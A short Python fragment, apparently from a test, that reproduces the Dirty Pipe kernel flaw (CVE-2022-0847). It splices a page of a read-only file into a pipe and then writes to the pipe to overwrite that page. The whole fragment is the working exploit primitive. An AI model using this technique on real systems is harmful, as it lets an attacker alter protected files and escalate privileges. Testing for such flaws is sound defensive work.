# Splices a page of a file that is shown read-only into a pipe and writes to the pipe, as CVE-2022-0847 did.
reader, writer = os.pipe()
size = 65536
os.write(writer, b"x" * size); os.read(reader, size)
fd = os.open(stage["shown"] + "/writable", os.O_RDONLY)
offset = ctypes.c_int64(0)
libc.splice(fd, ctypes.byref(offset), writer, None, 1, 0)
os.write(writer, b"broken")
